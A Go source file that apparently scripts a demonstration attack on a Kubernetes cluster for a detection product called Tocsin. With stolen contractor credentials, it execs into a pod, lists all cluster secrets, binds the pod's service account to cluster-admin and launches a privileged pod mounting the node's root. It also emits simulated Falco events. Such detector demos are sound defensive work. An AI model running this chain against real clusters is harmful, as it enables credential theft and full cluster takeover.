package story

import (
	"context"
	"fmt"
	"strings"
)

// attackBinding is the binding that the attacker makes.
const attackBinding = "shop-metrics"

// attack is what somebody does who has got hold of the contractor's
// credentials. Every request is real; the API server's audit events reach
// Tocsin by the API server's own webhook. What a runtime detector on the node
// would see is sent as Falco would send it.
func attack(ctx context.Context, w *World) error {
	if err := w.gateway.open(ctx, w); err != nil {
		return err
	}
	for _, part := range []func(context.Context) error{w.shell, w.steal, w.grant, w.escape, w.audit} {
		if err := part(ctx); err != nil {
			return err
		}
	}
	return nil
}

// shell opens a shell in the pod and lists all secrets with the pod's token.
func (w *World) shell(ctx context.Context) error {
	w.say("With the contractor's credentials, a shell in the shop's pod; from there, all secrets of the cluster:")
	w.say("$ kubectl -n %s exec -i %s -- sh", Shop, w.Pod)
	const line = "api GET /api/v1/secrets?limit=50"
	out, err := w.as(ctx, Contractor, line+"\nexit\n", "-n", Shop, "exec", "-i", w.Pod, "--", "sh")
	if err != nil {
		return err
	}
	w.say("$ %s\n%s", line, status(out))
	return w.falco(ctx, falcoShell)
}

// steal is what the detector saw of it: the token was read.
func (w *World) steal(ctx context.Context) error {
	if err := w.falco(ctx, falcoToken); err != nil {
		return err
	}
	return w.falco(ctx, falcoConnection)
}

// grant makes the pod's service account a cluster administrator.
func (w *World) grant(ctx context.Context) error {
	w.say("\nThe pod's service account becomes cluster-admin:")
	return w.call(ctx, "attack-binding.json", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings")
}

// escape starts a pod that owns the node.
func (w *World) escape(ctx context.Context) error {
	w.say("\nA privileged pod with the node's root folder:")
	return w.call(ctx, "attack-pod.json", "/api/v1/namespaces/"+Shop+"/pods")
}

// call posts an object to the API server from within the attacked pod.
func (w *World) call(ctx context.Context, file, path string) error {
	body, err := w.file(file)
	if err != nil {
		return err
	}
	line := "api POST " + path + " --file -"
	w.say("$ kubectl -n %s exec -i %s -- sh -c '%s' < %s", Shop, w.Pod, line, file)
	out, err := w.as(ctx, Contractor, body, "-n", Shop, "exec", "-i", w.Pod, "--", "sh", "-c", line)
	if err != nil {
		return fmt.Errorf("%w %s", err, out)
	}
	w.say("%s", status(out))
	return nil
}

// status is the line with the status of an answer.
func status(out string) string {
	for line := range strings.Lines(out) {
		line = strings.TrimSpace(strings.TrimLeft(line, "$ "))
		if len(line) > 3 && line[0] >= '1' && line[0] <= '5' && line[3] == ' ' {
			return line
		}
	}
	return short(out, 100)
}
